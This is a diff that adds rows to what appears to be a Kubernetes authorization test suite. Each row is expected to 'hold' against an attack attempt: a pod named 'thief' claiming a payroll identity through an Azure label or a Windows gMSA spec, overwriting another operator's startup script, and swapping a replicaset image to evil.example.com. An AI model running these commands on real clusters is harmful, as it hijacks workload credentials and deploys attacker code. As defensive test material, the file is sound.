@@ -259,3 +259,21 @@ row identity/custom-resource-changed held 'confused deputy' <<'DO'
 obj gitops.example.com/v1 Application a "\"spec\":{\"prune\":false}" | adm create -f - >/dev/null
 k patch applications.gitops.example.com a --type=merge -p '{"spec":{"prune":true}}'
 DO
+
+row identity/azure-identity-by-a-bare-label held 'aad-pod-identity' <<'DO'
+pod thief | jq -c '.metadata.labels = {"aadpodidbinding":"payroll"}' | k create -f -
+DO
+
+row identity/windows-group-managed-account held 'KEP-689' <<'DO'
+pod thief '"securityContext":{"windowsOptions":{"gmsaCredentialSpecName":"payroll"}}' | k create -f -
+DO
+
+row identity/script-of-others-as-bytes held 'MITRE T1525' <<'DO'
+adm -n "$NS" patch configmap operator-scripts --type=merge -p '{"binaryData":{"start":"YQ=="}}' >/dev/null
+k patch configmap operator-scripts --type=merge -p '{"binaryData":{"start":"IyEvYmluL3NoCg=="}}'
+DO
+
+row identity/replicaset-of-a-deployment-rewritten held 'own' <<'DO'
+adm -n "$NS" patch replicaset rs1 --type=merge -p '{"metadata":{"ownerReferences":[{"apiVersion":"apps/v1","kind":"Deployment","name":"web","uid":"00000000-0000-0000-0000-000000000001","controller":true}]}}' >/dev/null
+k set image replicaset/rs1 '*=evil.example.com/x'
+DO
